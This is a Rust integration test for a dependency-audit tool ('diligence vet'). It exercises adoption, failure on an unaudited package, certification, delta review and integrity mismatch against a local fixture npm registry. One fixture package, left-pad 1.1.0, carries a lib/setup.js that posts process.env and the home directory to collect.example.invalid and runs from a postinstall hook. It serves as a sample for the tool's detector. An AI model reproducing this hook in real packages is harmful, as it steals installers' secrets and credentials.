//! `diligence vet` through the binary, with tarballs from a 127.0.0.1 fixture registry:
//! adopt (regenerate-exemptions) → add a dependency → `vet` fails naming it → `suggest` →
//! `certify` (what to read first, then the audit recorded) → `vet` passes; a delta review;
//! a republished tarball; a certify the lockfile contradicts.

#[path = "../../diligence-vet/tests/support/mod.rs"]
mod support;

use assert_cmd::Command;
use serde_json::Value;
use std::path::Path;
use support::fixture_registry::{FixtureRegistry, FixtureVersion};
use support::{direct, sri, sri_of, write_project};

fn versions() -> (FixtureVersion, FixtureVersion, FixtureVersion) {
    let ms = FixtureVersion::new("ms", "2.1.3", &[]);
    let old = FixtureVersion::new("left-pad", "1.0.0", &[]).file(
        "lib/pad.js",
        "module.exports = function pad(s, n) {\n  while (s.length < n) s = ' ' + s;\n  return s;\n};\n",
    );
    let new = FixtureVersion::new("left-pad", "1.1.0", &[])
        .file(
            "lib/pad.js",
            "module.exports = function pad(s, n, c) {\n  c = c || ' ';\n  while (s.length < n) s = c + s;\n  return s;\n};\n",
        )
        .file(
            "lib/setup.js",
            "const https = require('https');\nconst os = require('os');\nconst data = JSON.stringify({ env: process.env, home: os.homedir() });\nconst req = https.request({ hostname: 'collect.example.invalid', method: 'POST', path: '/c' });\nreq.write(data);\nreq.end();\n",
        )
        .script("postinstall", "node lib/setup.js");
    (ms, old, new)
}

/// The binary with a private cache and the user's npm configuration kept away.
fn diligence(home: &Path) -> Command {
    let mut cmd = Command::cargo_bin("diligence").unwrap();
    cmd.env("DILIGENCE_CACHE_DIR", home.join("diligence-cache"))
        .env("npm_config_userconfig", home.join("npmrc"))
        .env("NO_COLOR", "1")
        .current_dir(home);
    cmd
}

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

fn run(home: &Path, args: &[&str]) -> Out {
    let out = diligence(home).args(args).output().unwrap();
    Out {
        code: out.status.code().unwrap(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn project(reg: &FixtureRegistry) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".npmrc"), format!("registry={}\n", reg.url)).unwrap();
    dir
}

#[test]
fn adopt_add_fail_suggest_certify_pass() {
    let (ms, old, new) = versions();
    let reg = FixtureRegistry::start(&[ms.clone(), old.clone(), new.clone()], &[]);
    let proj = project(&reg);
    let d = proj.path();
    let dir = d.to_str().unwrap();
    write_project(
        d,
        &[direct("ms", "2.1.3").with_integrity(sri_of(&ms.tarball()))],
    );

    // No ledger yet: exit 2, one line saying how to adopt one.
    let o = run(d, &["vet", dir]);
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert_eq!(
        o.stderr.trim(),
        format!(
            "error: {dir}/supply-chain: no audit ledger here (run `diligence vet regenerate-exemptions` to adopt one for the current lockfile)"
        )
    );

    // Adopt.
    let o = run(d, &["vet", "regenerate-exemptions", dir]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        o.stderr.trim(),
        format!("{dir}/supply-chain/exemptions.toml: 1 exemption(s), 1 added, 0 removed")
    );
    let o = run(d, &["vet", dir]);
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
    assert_eq!(
        o.stderr.trim(),
        "vet: 1 registry packages: 0 audited (0 full, 0 delta, 0 imported), 1 exempted, 0 unaudited, 0 not required"
    );

    // A pull request adds left-pad 1.1.0: vet fails naming it.
    let pad = sri_of(&new.tarball());
    write_project(
        d,
        &[
            direct("ms", "2.1.3").with_integrity(sri_of(&ms.tarball())),
            direct("left-pad", "1.1.0").with_integrity(pad.clone()),
        ],
    );
    let o = run(d, &["vet", dir, "--format", "json"]);
    assert_eq!(o.code, 1, "{}", o.stderr);
    let report: Value = serde_json::from_str(&o.stdout).unwrap();
    let findings = report["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0]["rule"], "vet/unaudited");
    assert_eq!(findings[0]["severity"], "high");
    assert_eq!(findings[0]["package"]["name"], "left-pad");
    assert_eq!(
        findings[0]["message"],
        "left-pad@1.1.0 is not audited for safe-to-deploy: review it in full (`diligence vet certify left-pad 1.1.0 --criteria safe-to-deploy`), or exempt it"
    );
    // SARIF and Markdown carry it too.
    let o = run(d, &["vet", dir, "--format", "sarif"]);
    assert_eq!(o.code, 1);
    let sarif: Value = serde_json::from_str(&o.stdout).unwrap();
    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "vet/unaudited");
    let o = run(d, &["vet", dir, "--format", "markdown"]);
    assert_eq!(o.code, 1);
    // Markdown defuses the `@` (no mention): a zero-width space follows it.
    assert!(
        o.stdout
            .contains("left-pad@&#8203;1.1.0 is not audited for safe-to-deploy"),
        "{}",
        o.stdout
    );

    // suggest sizes the review on the real tarball.
    let o = run(d, &["vet", "suggest", dir]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(
        o.stdout.starts_with("Unaudited (fail `diligence vet`), smallest review first:\n  diligence vet certify left-pad 1.1.0 --criteria safe-to-deploy\n      "),
        "{}",
        o.stdout
    );

    // certify without a terminal and without --criteria/--who: shows, records nothing.
    let o = run(d, &["vet", "certify", "left-pad", "1.1.0", "--dir", dir]);
    assert_eq!(o.code, 2);
    assert!(
        o.stdout.starts_with("Full review of left-pad@1.1.0: "),
        "{}",
        o.stdout
    );
    assert!(
        o.stderr.contains("not recorded: pass --criteria and --who"),
        "{}",
        o.stderr
    );

    let o = run(
        d,
        &[
            "vet",
            "certify",
            "left-pad",
            "1.1.0",
            "--dir",
            dir,
            "--criteria",
            "safe-to-deploy",
            "--who",
            "Ada <ada@example.com>",
            "--notes",
            "read setup.js: it posts the environment",
        ],
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    // What to read first: the analyser's findings, what runs at install, the entry points.
    assert!(
        o.stdout
            .contains("\nRuns at install:\n  postinstall: node lib/setup.js\n"),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout.contains("\nEntry points: index.js"),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout.contains(
            "Read first — analyser findings:\n  lib/setup.js:5  code/env-exfiltration [critical] "
        ),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout.contains("\n  ! lib/setup.js  6 lines\n"),
        "{}",
        o.stdout
    );
    assert_eq!(
        o.stderr.trim(),
        format!("recorded: left-pad@1.1.0 for safe-to-deploy in {dir}/supply-chain/audits.toml")
    );
    let audits = std::fs::read_to_string(d.join("supply-chain/audits.toml")).unwrap();
    assert!(
        audits.contains(&format!(
            "[[audits.left-pad]]\nwho = \"Ada <ada@example.com>\"\ncriteria = \"safe-to-deploy\"\nversion = \"1.1.0\"\nintegrity = \"{pad} sha1-"
        )),
        "{audits}"
    );
    let o = run(d, &["vet", dir]);
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
    assert_eq!(
        o.stderr.trim(),
        "vet: 2 registry packages: 1 audited (1 full, 0 delta, 0 imported), 1 exempted, 0 unaudited, 0 not required"
    );

    // left-pad 1.1.0 republished (or the lockfile edited): the audit no longer counts.
    write_project(
        d,
        &[
            direct("ms", "2.1.3").with_integrity(sri_of(&ms.tarball())),
            direct("left-pad", "1.1.0").with_integrity(sri("republished")),
        ],
    );
    let o = run(d, &["vet", dir, "--format", "json"]);
    assert_eq!(o.code, 1);
    let report: Value = serde_json::from_str(&o.stdout).unwrap();
    assert_eq!(report["findings"][0]["rule"], "vet/integrity-mismatch");
    assert_eq!(
        report["findings"][0]["evidence"]["locked"],
        sri("republished")
    );
    // …and certify refuses to record the registry's tarball against that lockfile.
    let o = run(
        d,
        &[
            "vet",
            "certify",
            "left-pad",
            "1.1.0",
            "--dir",
            dir,
            "--criteria",
            "safe-to-run",
            "--who",
            "Bob",
        ],
    );
    assert_eq!(o.code, 2);
    assert!(
        o.stderr.contains("left-pad@1.1.0 locks sha512-")
            && o.stderr.contains("the registry serves another tarball"),
        "{}",
        o.stderr
    );
}

#[test]
fn delta_review_shows_the_code_delta() {
    let (ms, old, new) = versions();
    let reg = FixtureRegistry::start(&[ms.clone(), old.clone(), new.clone()], &[]);
    let proj = project(&reg);
    let d = proj.path();
    let dir = d.to_str().unwrap();
    write_project(
        d,
        &[direct("left-pad", "1.1.0").with_integrity(sri_of(&new.tarball()))],
    );
    std::fs::create_dir_all(d.join("supply-chain")).unwrap();
    std::fs::write(
        d.join("supply-chain/audits.toml"),
        format!(
            "[[audits.left-pad]]\nwho = \"Ada\"\ncriteria = \"safe-to-deploy\"\nversion = \"1.0.0\"\nintegrity = \"{}\"\n",
            sri_of(&old.tarball())
        ),
    )
    .unwrap();
    let o = run(d, &["vet", dir, "--format", "json"]);
    assert_eq!(o.code, 1);
    let report: Value = serde_json::from_str(&o.stdout).unwrap();
    assert_eq!(
        report["findings"][0]["message"],
        "left-pad@1.1.0 is not audited for safe-to-deploy: review the delta from covered 1.0.0 (`diligence vet certify left-pad 1.0.0 1.1.0 --criteria safe-to-deploy`), or exempt it"
    );
    let o = run(d, &["vet", "suggest", dir]);
    assert!(
        o.stdout
            .contains("  diligence vet certify left-pad 1.0.0 1.1.0 --criteria safe-to-deploy\n"),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout
            .contains("      16 lines (delta; full review 26 lines); used by 1\n"),
        "{}",
        o.stdout
    );

    let o = run(
        d,
        &[
            "vet",
            "certify",
            "left-pad",
            "1.0.0",
            "1.1.0",
            "--dir",
            dir,
            "--criteria",
            "safe-to-deploy",
            "--who",
            "Ada",
        ],
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(
        o.stdout
            .starts_with("Delta review of left-pad 1.0.0 -> 1.1.0: "),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout
            .contains("New or changed lifecycle scripts: postinstall: node lib/setup.js"),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout.contains("Read first — findings new in this version:\n  lib/setup.js:5  code/env-exfiltration [critical] "),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout.contains("  ! added   lib/setup.js  +6 -0\n"),
        "{}",
        o.stdout
    );
    assert!(
        o.stdout.contains("    changed lib/pad.js  +3 -2\n"),
        "{}",
        o.stdout
    );
    let o = run(d, &["vet", dir]);
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
    assert!(
        o.stderr.contains("1 audited (0 full, 1 delta, 0 imported)"),
        "{}",
        o.stderr
    );
}
